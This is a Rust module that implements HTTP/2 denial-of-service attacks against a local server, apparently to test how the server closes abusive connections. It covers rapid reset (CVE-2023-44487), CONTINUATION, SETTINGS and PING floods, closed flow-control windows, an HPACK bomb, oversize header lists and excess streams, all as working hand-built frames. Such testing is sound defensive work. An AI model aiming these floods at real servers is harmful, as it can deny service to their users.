//! The attacks, each on one connection until the server closes it: with the `h2` crate as the
//! client where it can express the attack, and with frames written by hand (a frame writer and
//! HPACK literals) where it cannot. Rapid reset is written by hand too: the `h2` client queues
//! a new stream's HEADERS until the connection task sends it, and a stream reset before that
//! is dropped without a frame, so it never puts HEADERS and RST_STREAM back to back.

use axum::http::Request;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::sync::mpsc;

use super::Closed;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const CONTINUATION: u8 = 0x9;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
/// The RST_STREAM error code of a stream no longer wanted.
const CANCEL: u32 = 0x8;

/// One frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// An HPACK integer with an `n`-bit prefix whose other bits are `first` (RFC 7541 §5.1).
fn integer(first: u8, n: u32, mut value: usize, out: &mut Vec<u8>) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.push(value as u8);
}

/// An HPACK string literal, without Huffman coding.
fn string(value: &[u8], out: &mut Vec<u8>) {
    integer(0, 7, value.len(), out);
    out.extend(value);
}

/// The header block of `GET path` (`:method` and `:scheme` from the static table, `:path` and
/// `:authority` as literals with their static names).
fn request(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x86];
    integer(0, 4, 4, &mut block);
    string(path.as_bytes(), &mut block);
    integer(0, 4, 1, &mut block);
    string(b"127.0.0.1", &mut block);
    block
}

/// A header `name: value` as a literal without indexing and with a new name.
fn literal(name: &str, value: &[u8], out: &mut Vec<u8>) {
    out.push(0);
    string(name.as_bytes(), out);
    string(value, out);
}

/// Reads what the server sends until it closes the connection: how it closed it. Each HEADERS
/// frame (an answer beginning) is announced on `answers`.
async fn read_until_closed(
    mut reader: OwnedReadHalf,
    answers: mpsc::UnboundedSender<()>,
) -> Closed {
    let mut head = [0u8; 9];
    loop {
        if reader.read_exact(&mut head).await.is_err() {
            return Closed::Eof;
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; length];
        if reader.read_exact(&mut payload).await.is_err() {
            return Closed::Eof;
        }
        if head[3] == GOAWAY {
            return Closed::GoAway(u32::from_be_bytes(payload[4..8].try_into().unwrap()));
        }
        if head[3] == HEADERS {
            let _ = answers.send(());
        }
    }
}

/// Sends the preface, an empty SETTINGS frame and `opening`, then the frames `next` gives for
/// 0, 1, 2… (in batches of a hundred) until the server closes the connection; `None` from
/// `next` means the attack has nothing more to send and waits.
async fn raw(
    stream: TcpStream,
    opening: Vec<u8>,
    next: impl Fn(usize) -> Option<Vec<u8>> + Send + 'static,
) -> Closed {
    let (reader, mut writer) = stream.into_split();
    let mut closed = tokio::spawn(read_until_closed(reader, mpsc::unbounded_channel().0));
    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &[]));
    start.extend(opening);
    let writing = async move {
        if writer.write_all(&start).await.is_err() {
            return;
        }
        for batch in 0.. {
            let frames: Option<Vec<Vec<u8>>> =
                (batch * 100..batch * 100 + 100).map(&next).collect();
            let Some(frames) = frames else {
                return std::future::pending().await;
            };
            if writer.write_all(&frames.concat()).await.is_err() {
                return;
            }
        }
    };
    tokio::select! {
        how = &mut closed => how.unwrap(),
        () = writing => closed.await.unwrap(),
    }
}

/// A GET of `path` for the `h2` client.
fn get(path: &str) -> Request<()> {
    Request::get(format!("http://127.0.0.1{path}"))
        .body(())
        .unwrap()
}

/// How the `h2` client's connection ended.
fn closed_by(ended: Result<(), h2::Error>) -> Closed {
    match ended {
        Err(error) if error.is_go_away() => Closed::GoAway(error.reason().map_or(0, u32::from)),
        _ => Closed::Eof,
    }
}

/// Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM for a new stream, a hundred pairs a
/// write, without end.
pub async fn rapid_reset(stream: TcpStream) -> Closed {
    raw(stream, Vec::new(), |i| {
        let stream = 1 + 2 * i as u32;
        let mut pair = frame(HEADERS, END_HEADERS, stream, &request("/"));
        pair.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
        Some(pair)
    })
    .await
}

/// Rapid reset paced so that the server has accepted and answered each stream before it is
/// reset: HEADERS, the answer's HEADERS awaited, then RST_STREAM, without end.
pub async fn paced_reset(stream: TcpStream) -> Closed {
    let (reader, mut writer) = stream.into_split();
    let (answers, mut answered) = mpsc::unbounded_channel();
    let mut closed = tokio::spawn(read_until_closed(reader, answers));
    let mut start = PREFACE.to_vec();
    start.extend(frame(SETTINGS, 0, 0, &[]));
    let resetting = async move {
        let mut opening = start;
        for stream in (1u32..).step_by(2) {
            opening.extend(frame(HEADERS, END_HEADERS, stream, &request("/")));
            if writer.write_all(&opening).await.is_err() || answered.recv().await.is_none() {
                return;
            }
            opening = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
        }
    };
    tokio::select! {
        how = &mut closed => how.unwrap(),
        () = resetting => closed.await.unwrap(),
    }
}

/// HEADERS without END_HEADERS, then CONTINUATION frames without end.
pub async fn continuation_flood(stream: TcpStream) -> Closed {
    let opening = frame(HEADERS, END_STREAM, 1, &request("/"));
    raw(stream, opening, |i| {
        let mut block = Vec::new();
        literal(&format!("x-flood-{i}"), b"continuation", &mut block);
        Some(frame(CONTINUATION, 0, 1, &block))
    })
    .await
}

/// SETTINGS frames without end (each sets SETTINGS_MAX_CONCURRENT_STREAMS).
pub async fn settings_flood(stream: TcpStream) -> Closed {
    raw(stream, Vec::new(), |_| {
        Some(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]))
    })
    .await
}

/// PING after PING, each sent as soon as the last one is answered.
pub async fn ping_flood(stream: TcpStream) -> Closed {
    let (_client, mut connection) = h2::client::handshake(stream).await.unwrap();
    let mut pings = connection.ping_pong().unwrap();
    let mut connection = tokio::spawn(connection);
    let pinging = async move { while pings.ping(h2::Ping::opaque()).await.is_ok() {} };
    tokio::select! {
        ended = &mut connection => closed_by(ended.unwrap()),
        () = pinging => closed_by(connection.await.unwrap()),
    }
}

/// Requests for large answers from a client that never opens its flow-control window: with
/// SETTINGS_INITIAL_WINDOW_SIZE 0 (`zero`), or with the default windows and never a
/// WINDOW_UPDATE (the connection's window runs out).
pub async fn closed_window(stream: TcpStream, zero: bool) -> Closed {
    let mut builder = h2::client::Builder::new();
    if zero {
        builder.initial_window_size(0);
    }
    let (mut client, connection) = builder
        .handshake::<_, axum::body::Bytes>(stream)
        .await
        .unwrap();
    let mut connection = tokio::spawn(connection);
    let requesting = async move {
        let mut held = Vec::new();
        for _ in 0..30 {
            client = match client.ready().await {
                Ok(client) => client,
                Err(_) => break,
            };
            match client.send_request(get("/"), true) {
                Ok((response, _)) => held.push(response),
                Err(_) => break,
            }
        }
        // The answers are held, and their bodies never read.
        std::future::pending::<()>().await;
        drop(held);
    };
    tokio::select! {
        ended = &mut connection => closed_by(ended.unwrap()),
        () = requesting => closed_by(connection.await.unwrap()),
    }
}

/// A header of 4,000 bytes added to the dynamic table, then referenced 1,000 times in one
/// header list (4 MB decoded from 5 KB sent).
pub async fn hpack_bomb(stream: TcpStream) -> Closed {
    let mut block = request("/");
    block.push(0x40);
    string(b"x-bomb", &mut block);
    string(&[b'b'; 4_000], &mut block);
    block.extend([0xbe; 1_000]);
    raw(
        stream,
        frame(HEADERS, END_STREAM | END_HEADERS, 1, &block),
        |_| None,
    )
    .await
}

/// The same large header added once (a request of normal size), then referenced five times
/// (20 KB, beyond the 16 KB limit) in request after request.
pub async fn oversize_header_lists(stream: TcpStream) -> Closed {
    let mut first = request("/");
    first.push(0x40);
    string(b"x-large", &mut first);
    string(&[b'l'; 4_000], &mut first);
    let opening = frame(HEADERS, END_STREAM | END_HEADERS, 1, &first);
    raw(stream, opening, |i| {
        let mut block = request("/");
        block.extend([0xbe; 5]);
        Some(frame(
            HEADERS,
            END_STREAM | END_HEADERS,
            3 + 2 * i as u32,
            &block,
        ))
    })
    .await
}

/// A thousand requests at once, far beyond the concurrency the server advertises.
pub async fn thousand_streams(stream: TcpStream) -> Closed {
    let opening = (0..1_000u32)
        .flat_map(|i| frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, &request("/")))
        .collect();
    raw(stream, opening, |_| None).await
}
